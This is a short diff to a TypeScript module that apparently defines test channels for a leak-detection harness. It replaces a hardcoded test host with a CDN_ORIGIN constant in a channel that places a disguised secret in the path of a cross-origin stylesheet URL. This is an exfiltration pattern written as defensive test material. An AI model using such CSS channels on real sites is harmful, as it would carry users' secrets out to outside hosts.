@@ -1,6 +1,7 @@
 // Channels: text and addresses in style sheets: style elements, linked files, sheets that scripts made.
 import type { Channel } from './channel.ts';
 import { disguise } from './disguise.ts';
+import { CDN_ORIGIN } from './hosts.ts';
 import { find } from './live/find.ts';
 import { inThree } from './split-secret.ts';
 
@@ -91,8 +92,7 @@ const FILES: readonly Channel[] = [
   },
   {
     id: 'css.file-other-host',
-    head: (s) =>
-      `<link rel="stylesheet" crossorigin href="https://cdn.leak-test.test/sheet-of/${disguise(s)}.css">`,
+    head: (s) => `<link rel="stylesheet" crossorigin href="${CDN_ORIGIN}/sheet-of/${disguise(s)}.css">`,
     scope: 'page',
   },
   { id: 'css.file-imported', html: (s) => `<style>@import url("/sheet-of/${disguise(s)}.css");</style>` },
